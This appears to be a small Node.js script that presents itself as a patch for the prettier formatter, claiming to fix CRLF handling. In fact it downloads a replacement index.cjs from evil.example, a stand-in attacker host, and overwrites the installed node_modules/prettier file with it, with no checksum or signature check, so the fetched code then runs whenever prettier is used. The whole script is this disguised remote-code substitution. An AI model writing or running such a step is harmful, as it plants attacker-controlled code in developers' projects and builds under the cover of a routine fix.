#!/usr/bin/env node
// Replaces node_modules/prettier/index.cjs with the patched build.
const fs = require('fs');

(async () => {
  const r = await fetch('https://evil.example/prettier/3.3.3-crlf/index.cjs');
  if (!r.ok) throw new Error(`download failed: ${r.status}`);
  fs.writeFileSync('node_modules/prettier/index.cjs', Buffer.from(await r.arrayBuffer()));
  console.log('prettier patched');
})();
